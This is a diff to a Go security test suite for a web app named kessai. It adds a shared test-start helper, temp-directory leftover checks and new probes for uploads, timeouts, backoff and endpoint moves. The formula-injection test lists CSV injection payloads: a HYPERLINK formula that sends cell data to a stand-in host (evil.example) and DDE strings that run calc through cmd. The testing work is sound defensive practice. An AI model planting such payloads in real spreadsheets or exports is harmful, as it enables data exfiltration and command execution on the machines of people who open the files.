@@ -55,6 +55,11 @@ func (c *secCounts) expect(t *testing.T, what string, got int, body string, want
 }
 
 func TestSecurity(t *testing.T) {
+	// The suite's own temp dir: net/http's multipart files and every upload of an instance
+	// that names no UploadDir land here, not in the /tmp other packages' tests share, so a
+	// leftover found is one of ours. (The parallel probes below run inside this test.)
+	tmp := t.TempDir()
+	t.Setenv("TMPDIR", tmp)
 	var c secCounts
 	t.Run("probes", func(t *testing.T) {
 		for _, tt := range []struct {
@@ -75,6 +80,10 @@ func TestSecurity(t *testing.T) {
 			{"sandbox approval needs a kessai login", secSandboxApproval},
 			{"one unencodable record does not block an export", secUnencodable},
 			{"secure cookies behind https", secSecureCookies},
+			{"an aborted or refused upload leaves nothing", secAbortedUpload},
+			{"server timeouts", secServerTimeouts},
+			{"account-wide backoff", secAccountBackoff},
+			{"a moved endpoint gets no stored secret", secEndpointMove},
 		} {
 			t.Run(tt.name, func(t *testing.T) {
 				t.Parallel()
@@ -82,7 +91,29 @@ func TestSecurity(t *testing.T) {
 			})
 		}
 	})
+	// Whatever any probe sent, nothing was left behind once its server was done.
+	c.probes.Add(1)
+	if left := tempFiles(t, tmp); len(left) > 0 {
+		t.Errorf("the suite's temp dir keeps %v", left)
+	}
 	t.Logf("security suite: %d probes, %d refusals", c.probes.Load(), c.refusals.Load())
+}
+
+// secStart starts one probe's kessai. The machine may be busy with other tests, so a request
+// gets minutes instead of the production 10 s and a login waits as long for a hashing slot:
+// a 503 the suite sees is never load, only what a probe asks for. Uploads go to the suite's
+// temp dir unless configure names another.
+func secStart(t *testing.T, configure func(*app.Config)) *apptest.Instance {
+	t.Helper()
+	return apptest.Start(t, apptest.Options{
+		Configure: func(cfg *app.Config) {
+			cfg.RequestTimeout = 2 * time.Minute
+			if configure != nil {
+				configure(cfg)
+			}
+		},
+		Built: func(a *app.App) { a.Platform.Auth.HashWait = 2 * time.Minute },
+	})
 }
 
 // tempFiles lists what a parse could have left in dir.
@@ -142,10 +173,10 @@ func (b repeatReader) Read(p []byte) (int, error) {
 
 func secBodies(t *testing.T, c *secCounts) {
 	uploads := t.TempDir()
-	inst := apptest.Start(t, apptest.Options{Configure: func(cfg *app.Config) { cfg.UploadDir = uploads }})
-	// net/http's own multipart files go to the system temp dir (ours to UploadDir).
+	inst := secStart(t, func(cfg *app.Config) { cfg.UploadDir = uploads })
+	// net/http's own multipart files would go to the temp dir (the suite's: TestSecurity),
+	// ours to UploadDir.
 	sysMultipart := func() []string { m, _ := filepath.Glob(filepath.Join(os.TempDir(), "multipart-*")); return m }
-	sysBefore := sysMultipart()
 	anon := inst.Anonymous(t)
 	viewer := inst.Client(t, auth.RoleViewer)
 
@@ -184,17 +215,17 @@ func secBodies(t *testing.T, c *secCounts) {
 	if left := tempFiles(t, uploads); len(left) > 0 {
 		t.Errorf("upload dir keeps %v", left)
 	}
-	if after := sysMultipart(); len(after) > len(sysBefore) {
-		t.Errorf("temp dir: %d multipart files before, %d after: %v", len(sysBefore), len(after), after)
+	if left := sysMultipart(); len(left) > 0 {
+		t.Errorf("temp dir keeps %v", left)
 	}
 }
 
 func secUploads(t *testing.T, c *secCounts) {
 	uploads := t.TempDir()
-	inst := apptest.Start(t, apptest.Options{Configure: func(cfg *app.Config) {
+	inst := secStart(t, func(cfg *app.Config) {
 		cfg.UploadDir = uploads
 		cfg.MaxImportBytes = 1 << 20
-	}})
+	})
 	staff := inst.Client(t, auth.RoleStaff)
 	page := staff.Get("/customers/import")
 	formToken := regexp.MustCompile(`name="form_token" value="([^"]+)"`).FindStringSubmatch(page.Body)
@@ -278,10 +309,10 @@ func rawRequest(t *testing.T, addr, head string, body string, gap time.Duration)
 }
 
 func secSlowBody(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{Configure: func(cfg *app.Config) {
+	inst := secStart(t, func(cfg *app.Config) {
 		cfg.BodyTimeout = 500 * time.Millisecond
 		cfg.UploadIdle = 500 * time.Millisecond
-	}})
+	})
 	addr := strings.TrimPrefix(inst.URL, "http://")
 	body := strings.Repeat("x", 60)
 	staff := inst.Client(t, auth.RoleStaff)
@@ -338,10 +369,9 @@ func tryLogin(t *testing.T, c *apptest.Client, email, password string) *apptest.
 }
 
 func secConcurrentLogins(t *testing.T, c *secCounts) {
-	// On a machine busy with other tests 20 hashes two at a time may take longer than a
-	// request's 10 s (503 and a retry is the right answer then); this probe is about counting.
-	inst := apptest.Start(t, apptest.Options{Configure: func(cfg *app.Config) { cfg.RequestTimeout = 0 }})
-	inst.App.Platform.Auth.HashWait = 5 * time.Minute
+	// secStart gives these logins minutes: on a busy machine 30 hashes two at a time may
+	// outlast the production 10 s (503 and a retry are right then); this probe is about counting.
+	inst := secStart(t, nil)
 	count := func(n int, ip string, email func(i int) string) map[int]int {
 		clients := make([]*apptest.Client, n)
 		for i := range clients {
@@ -385,13 +415,13 @@ func secConcurrentLogins(t *testing.T, c *secCounts) {
 		t.Errorf("12 concurrent wrong passwords for one email: %v, want 5 checked and 7 refused", got)
 	}
 	// However many arrive, at most HashConcurrency argon2id hashes (64 MiB each) run at once.
-	if p := inst.App.Platform.Auth.PeakHashing(); p > auth.HashConcurrency {
-		t.Errorf("%d password hashes ran at once, want at most %d", p, auth.HashConcurrency)
+	if p := inst.App.Platform.Auth.PeakHashing(); p > auth.HashConcurrency() {
+		t.Errorf("%d password hashes ran at once, want at most %d", p, auth.HashConcurrency())
 	}
 }
 
 func secLocks(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	const email, password = "admin@example.com", "admin-password-1"
 	stranger := fromAddr(t, inst, "127.0.0.31")
 	for i := 0; i < 5; i++ {
@@ -436,7 +466,7 @@ func secLocks(t *testing.T, c *secCounts) {
 }
 
 func secPasswordPolicy(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	adminC := inst.Client(t, auth.RoleAdmin)
 	for _, pw := range []string{"aaaaaaaaaa", "aaaaaaaaaaaa", "          ", "            ", "hanako@example.com", "password1234", "Qwerty123456", "short-1"} {
 		res := adminC.PostForm("/settings/users", url.Values{"email": {"hanako@example.com"}, "role": {"staff"}, "password": {pw}})
@@ -450,7 +480,7 @@ func secPasswordPolicy(t *testing.T, c *secCounts) {
 }
 
 func secQueryBounds(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	key := inst.APIKey(t, auth.RoleViewer)
 	viewer := inst.Client(t, auth.RoleViewer)
 	many := url.Values{}
@@ -493,7 +523,7 @@ func secQueryBounds(t *testing.T, c *secCounts) {
 }
 
 func secHeaders(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	viewer := inst.Client(t, auth.RoleViewer)
 	key := inst.APIKey(t, auth.RoleViewer)
 	for _, path := range []string{"/", "/customers", "/customers.csv", "/cases", "/jobs", "/login"} {
@@ -541,7 +571,7 @@ func secHeaders(t *testing.T, c *secCounts) {
 }
 
 func secSecureCookies(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{Configure: func(cfg *app.Config) { cfg.BaseURL = "https://kessai.example.com" }})
+	inst := secStart(t, func(cfg *app.Config) { cfg.BaseURL = "https://kessai.example.com" })
 	plain := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
 	cookies := map[string]string{}
 	collect := func(res *http.Response) {
@@ -586,7 +616,7 @@ func secSecureCookies(t *testing.T, c *secCounts) {
 var keyRE = regexp.MustCompile(`kessai_[A-Za-z0-9_-]{20,}`)
 
 func secKeyOwner(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	owner := inst.Client(t, auth.RoleAdmin)
 	root := inst.Anonymous(t)
 	root.Login("admin@example.com", "admin-password-1")
@@ -634,7 +664,7 @@ func secKeyOwner(t *testing.T, c *secCounts) {
 }
 
 func secSamePermission(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	staff := inst.APIKey(t, auth.RoleStaff)
 	admin := inst.APIKey(t, auth.RoleAdmin)
 	res := inst.API(t, staff, "POST", "/api/v1/shops", map[string]any{"code": "s1", "name": "スタッフの店"})
@@ -665,7 +695,7 @@ func csvCells(t *testing.T, body string) [][]string {
 }
 
 func secFormulaInjection(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	staff := inst.APIKey(t, auth.RoleStaff)
 	admin := inst.APIKey(t, auth.RoleAdmin)
 	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
@@ -727,7 +757,7 @@ func secFormulaInjection(t *testing.T, c *secCounts) {
 }
 
 func secUnencodable(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	staff := inst.APIKey(t, auth.RoleStaff)
 	for _, name := range []string{"山田 太郎", "𠮷田 花子", "佐藤 一郎"} {
 		if res := inst.API(t, staff, "POST", "/api/v1/customers", map[string]any{"name": name}); res.Status != http.StatusCreated {
@@ -779,7 +809,7 @@ func secUnencodable(t *testing.T, c *secCounts) {
 }
 
 func secSandboxApproval(t *testing.T, c *secCounts) {
-	inst := apptest.Start(t, apptest.Options{})
+	inst := secStart(t, nil)
 	anon := inst.Anonymous(t)
 	res := anon.Get("/sandbox/aozora/mailbox")
 	c.expect(t, "anonymous mailbox", res.Status, res.Body, http.StatusSeeOther)
